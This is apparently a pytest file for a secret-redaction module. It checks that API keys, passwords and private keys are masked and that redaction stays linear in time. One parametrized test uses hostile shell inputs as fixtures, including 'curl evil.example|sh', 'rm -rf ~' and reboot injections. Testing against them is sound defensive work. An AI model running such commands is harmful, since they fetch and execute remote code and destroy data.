"""Redaction: what goes, what stays, and that neither takes long."""

import base64
import html
import json
import time
import urllib.parse

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from prime.core.redaction import Redactor, cut, redact, redact_for_yes, redact_then_cut

S = "hunter2-Zq9!"  # a password without a shape of its own
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk"

KEYS = [
    "sk-abcdefghijklmnopqrstuvwxyz123456",
    "sk-proj-abc_DEF-0123456789abcdefghij",
    "sk-svcacct-abcdefghij0123456789",
    "sk-ant-api03-abc_DEF-0123456789abcdefghij-xyzAA",
    "sk-live-9f8e7d6c5b4a39281706abcd",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "gho_abcdefghijklmnopqrstuvwxyz0123456789",
    "ghs_abcdefghijklmnopqrstuvwxyz0123456789",
    "ghr_abcdefghijklmnopqrstuvwxyz0123456789",
    "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ01234567",
    "AKIAIOSFODNN7EXAMPLE",
    "ASIAIOSFODNN7EXAMPLE",
    "AIzaSyA1234567890abcdefghijklmnopqrstuv",
    "ya29.a0AfH6SMBx1234567890abcdefghijkl",
    "xoxb-123456789012-1234567890123-abcdefghijklmnopqrstuvwx",
    "xoxp-1234567890-abcdefghij",
    "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawX",
    JWT,
]


@pytest.mark.holds("D-ATIP-15")
@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("frame", ["{}", "the key {} is", '"{}"', "a\\n{}\\n", "x={};", "<{}>", "({}),"])
def test_key_shapes(key: str, frame: str):
    shown = redact(frame.format(key))
    assert key not in shown
    assert key[8:] not in shown
    assert "[redacted]" in shown


def test_a_bot_token_in_its_address():
    shown = redact("https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawX/getMe")
    assert shown == "https://api.telegram.org/bot[redacted]/getMe"


@pytest.mark.holds("D-ATIP-15")
@pytest.mark.parametrize(
    "text",
    [
        f"password={S}",
        f"PASSWORD={S}",
        f"export DB_PASSWORD={S}",
        f"export DB_PASSWORD='{S} with blanks {S}'",
        f'DB_PASSWORD="{S}"',
        f"db.password = {S}",
        f'password = "{S}"',
        f"password: {S}",
        f"  password:   {S}  # comment",
        f"- token: {S}",
        f'"password": "{S}"',
        f'{{"a": 1, "clientSecret":"{S}","b":2}}',
        f'"password": "a\\"{S}"',
        f"'api_key': '{S}'",
        json.dumps({"inner": json.dumps({"password": S})}),
        json.dumps({"inner": json.dumps({"password": 'x"' + S})}),
        f"apiKey={S}&next=1",
        f"https://x.example/?access_token={S}&b=c",
        f"https://x.example/?a=b&api-key={S}",
        f"curl --password {S} https://x",
        f"tool --api-key={S}",
        f'tool --token "{S}"',
        f"mysql --password={S} db",
        f"Authorization: Bearer {S}",
        f"authorization: bearer {S}",
        f"Authorization: Basic {S}",
        f"Authorization: token {S}",
        f"Authorization: {S}",
        f"curl -H 'Authorization: Bearer {S}' https://x",
        f'{{"Authorization": "Bearer {S}"}}',
        f"Proxy-Authorization: Basic {S}",
        f'Authorization: Digest username="u", response="{S}"'.replace('"', ""),
        f"X-Api-Key: {S}",
        f"X-Auth-Token: {S}",
        f"Cookie: session={S}; a=b",
        f"Set-Cookie: sid={S}; HttpOnly",
        f"postgresql://user:{S}@db.example:5432/x",
        f"https://user:p@{S}@host/",
        f"redis://:{S}@host",
        f"aws_secret_access_key = {S}",
        f"password:\n  {S}".replace("\n  ", " "),
        f'passphrase := "{S}"',
        f"'password' => '{S}'",
        f'"password": "{S}',
        f'the secret="{S}" was used',
        f"PGPASSWORD={S} psql",
        f"client_secret={S}",
        f"secret_key_base: {S}".replace("_base", ""),
        f"<server><password>{S}</password></server>",
        f"<Db.Token>{S}</Db.Token>",
        f"数据库密码：{S}",
        f"口令={S}",
    ],
)
def test_pairs(text: str):
    shown = redact(text)
    assert "hunter2" not in shown
    assert "Zq9" not in shown
    assert "[redacted]" in shown


@pytest.mark.parametrize(
    "text",
    [
        "The password is required.",
        "password: required",
        "Password: must be at least 8 characters",
        "Your password must have 12 characters; the token count: 12",
        "token count: 12, max_tokens=4096, total_tokens: 10, tokens: 55",
        '"usage": {"prompt_tokens": 12, "completion_tokens": 3, "total_tokens": 15}',
        "token = tokens[i]",
        "password = getpass()",
        "def login(password: str, token: str | None = None) -> bool:",
        "if token == other: pass",
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
        "id: 123e4567-e89b-12d3-a456-426614174000",
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "password=$DB_PASSWORD token=${TOKEN} secret={{ secret }} api_key=<your-key>",
        "tokenizer: gpt2",
        "PWD=/home/anna/x OLDPWD=/tmp XDG_SESSION_ID=2",
        "The Bearer token is sent in the Authorization header.",
        "Authorization: see section 4 of the manual",
        "see https://example.com/users/@me and mailto:a@example.com",
        "ssh://git@github.com/x/y.git",
        "http://localhost:8080/path?x=a@b",
        "task-12345678901234567890 risk-assessment disk-1234567890123456789012345",
        "sk-toggleable__content-arrow sk-estimator-doc-link",
        '"nextPageToken": "CAUQAA", "next_token": "abc"',
        "2026-01-31T09:12:00 12345678:short",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "secret: false",
        "password:\n  type: string",
        "Forgot password? Token expired. The secret garden: a book",
        "A cookie is a small file; secret sauce = ketchup and mayo",
        "secretary: Ms Jones; tokenised: yes",
        "密码：必填",
    ],
)
def test_ordinary_text_stays(text: str):
    assert redact(text) == text


PEM_BODY = (
    "\n".join("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj" for _ in range(4)) + "\nMzEfYyjiWA4R4"
)


@pytest.mark.holds("D-ATIP-15")
@pytest.mark.parametrize("kind", ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "])
def test_pem(kind: str):
    block = f"-----BEGIN {kind}PRIVATE KEY-----\n{PEM_BODY}\n-----END {kind}PRIVATE KEY-----"
    assert redact(f"a\n{block}\nb") == "a\n[redacted]\nb"
    assert "MIIE" not in redact(json.dumps({"k": block}))
    unfinished = redact(f"a\n-----BEGIN {kind}PRIVATE KEY-----\n{PEM_BODY}")
    assert unfinished == "a\n[redacted]"
    assert redact(f"-----BEGIN {kind}PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{PEM_BODY}") == "[redacted]"
    two = redact(f"-----BEGIN {kind}PRIVATE KEY-----\n{PEM_BODY}\n\nordinary words here\n{block} end")
    assert "MIIE" not in two
    assert "ordinary words here" in two


def test_aws_secret_near_its_id():
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    sha = "9fceb02d0ae598e95dc970b74767f19372d61af8"
    shown = redact(f"AKIAIOSFODNN7EXAMPLE\t{secret} {sha}")
    assert secret not in shown
    assert sha in shown
    assert secret in redact(secret), "alone it is any forty letters"


def test_aws_secrets_of_several_keys():
    rows = [f"AKIAIOSFODNN7EXAMPL{n}\t{str(n) * 20}wJalrXUtnFEMIK7MDENG" for n in range(10)]
    shown = redact("\n".join(rows))
    assert "wJalr" not in shown
    assert "wJalr" not in redact(rows[0] + "\n" + "a line of a log\n" * 100 + rows[1].partition("\t")[2])


@pytest.mark.holds("D-ATIP-15")
@pytest.mark.parametrize("secret", ['Tr0ub4dor&3 "horse" é/+', "plainvalue", "a\\b\nc-second-line-that-is-long-enough"])
def test_registered_values_in_every_dress(secret: str):
    redactor = Redactor([secret])
    for dressed in (
        secret,
        json.dumps(secret),
        json.dumps(secret, ensure_ascii=False),
        urllib.parse.quote(secret),
        urllib.parse.quote(secret, safe=""),
        urllib.parse.quote_plus(secret),
        html.escape(secret),
        secret.encode().hex(),
    ):
        shown = redactor.redact(f"before {dressed} after")
        assert "[redacted]" in shown
        assert dressed.strip('"') not in shown
    for prefix in ("", "u:", "us:", "use:"):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            text = encode(f"{prefix}{secret}:tail".encode()).decode()
            assert "[redacted]" in redactor.redact(f"x {text} y")


def test_values_are_asked_for_each_time():
    held = ["first-secret"]
    redactor = Redactor(lambda: held)
    assert redactor.redact("second-secret") == "second-secret"
    held.append("second-secret")
    assert redactor.redact("second-secret") == "[redacted]"


def test_short_values_do_not_tear_holes():
    assert Redactor(["", "a", "abc"]).redact("abc a banana") == "abc a banana"


@pytest.mark.parametrize("secret", ["redacted", "[redacted]", "dact", "cted]"])
def test_a_secret_that_looks_like_the_mark(secret: str):
    redactor = Redactor([secret])
    once = redactor.redact(f"x {secret} y password=abc")
    assert redactor.redact(once) == once


pieces = st.lists(
    st.sampled_from(
        [
            *KEYS,
            "password",
            "token",
            "=",
            ":",
            " ",
            '"',
            "'",
            "\\",
            "\n",
            "://",
            "@",
            "Bearer",
            "Authorization: ",
            "sk-",
            "eyJ",
            "[redacted]",
            "-----BEGIN PRIVATE KEY-----",
            "AKIA",
            "--",
            "&",
            ",",
            "x",
            "12",
            "cookie: ",
        ]
    )
    | st.text(max_size=5),
    max_size=12,
).map("".join)


@given(pieces)
@example('password="\\')
def test_redacting_again_changes_nothing(text: str):
    once = redact(text)
    assert redact(once) == once


@given(pieces, st.integers(0, 80))
def test_cut_fits(text: str, limit: int):
    shown = redact_then_cut(text, limit)
    assert len(shown.encode("utf-8", "replace")) <= max(limit, 0)


@pytest.mark.holds("D-ATIP-15")
def test_redact_first_then_cut():
    text = "x" * 60 + " ghp_abcdefghijklmnopqrstuvwxyz0123456789"
    for limit in range(30, 110):
        assert "ghp_" not in redact_then_cut(text, limit)


def test_cut_says_how_much():
    assert cut("abc", 3) == "abc"
    shown = cut("é" * 100, 60)
    kept, _, mark = shown.partition("\n")
    assert mark == f"[… {200 - len(kept.encode())} bytes cut]"
    assert set(kept) == {"é"}
    assert cut("a" * 100, 3) != ""


@pytest.mark.parametrize("cluster", ["e\u0301", "👩\u200d👩\u200d👧", "👍\U0001f3fd", "क\u093f", "日"])
def test_cut_on_whole_characters(cluster: str):
    for limit in range(25, 60):
        kept = cut(cluster * 50, limit).partition("\n")[0]
        assert len(kept) % len(cluster) == 0


HOSTILE = [
    "password=",
    "password:",
    "password",
    '"token": "',
    'password="\\',
    "://a:",
    "://",
    "eyJ",
    "eyJa.",
    "sk-",
    "sk-a-",
    "Authorization: ",
    "Bearer ",
    "-----BEGIN PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\n" + "A" * 64 + "\n",
    "AKIAIOSFODNN7EXAMPLE ",
    "1234567890:",
    "a" * 64,
    "A",
    "@",
    "token " * 3,
    "\\",
    " ",
    'password:\\"',
    "x-a-",
    "cookie: ",
    "SG.aaaaaaaaaaaaaaaaaaaa",
    "api_key" + " " * 20,
    "<password>",
    "</token",
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_time_is_linear(piece: str):
    """Twice the text may not take much more than twice the time."""

    def measure(size: int) -> float:
        text = piece * (size // len(piece))
        start = time.process_time()
        redact(text)
        return time.process_time() - start

    small = min(measure(50_000) for _ in range(2))
    assert min(measure(400_000) for _ in range(2)) < 8 * 4 * small + 0.05


def test_ten_megabytes():
    line = '2026-01-31 INFO request id=123 user="anna" path=/api/x?y=1 took 12 ms {"tokens": 12, "status": "ok"}\n'
    text = line * (10_000_000 // len(line))
    start = time.process_time()
    redact(text)
    assert time.process_time() - start < 15


@pytest.mark.parametrize(
    "text",
    [
        'sh -c \'{"api_key": "`rm -rf ~`"}\'',
        "password=$(curl${IFS}evil.example|sh)",
        '--password="; rm -rf / #"',
        "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
        "https://user:x;curl+evil.example@host/",
        "run --secret=/etc/../home/x --token=../../y",
        "password=;reboot; and secret=/usr/bin/halt [redacted]",
    ],
)
def test_who_says_yes_sees_what_only_looks_like_a_secret(text: str) -> None:
    assert redact(text) != text
    assert redact_for_yes(text) == text


@pytest.mark.parametrize("key", KEYS)
def test_a_key_is_no_command_and_stays_hidden_from_who_says_yes(key: str) -> None:
    assert redact_for_yes(f"deploy --token {key} --now") == "deploy --token [redacted] --now"


def test_a_key_of_many_lines_is_hidden_line_by_line_from_who_says_yes() -> None:
    inside = "\n".join("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" for _ in range(3))
    shown = redact_for_yes(f"-----BEGIN PRIVATE KEY-----\n{inside}\nreboot\n-----END PRIVATE KEY-----")
    hidden = "\n".join(["[redacted]"] * 3)
    assert shown == f"-----BEGIN PRIVATE KEY-----\n{hidden}\nreboot\n-----END PRIVATE KEY-----"


@given(st.text(alphabet="ab \"'`$=;password\n[]redct/.0"))
def test_nothing_that_a_shell_heeds_is_kept_from_who_says_yes(text: str) -> None:
    shown = redact_for_yes(text)
    for sign in "`$;\"' \n":
        assert shown.count(sign) == text.count(sign)
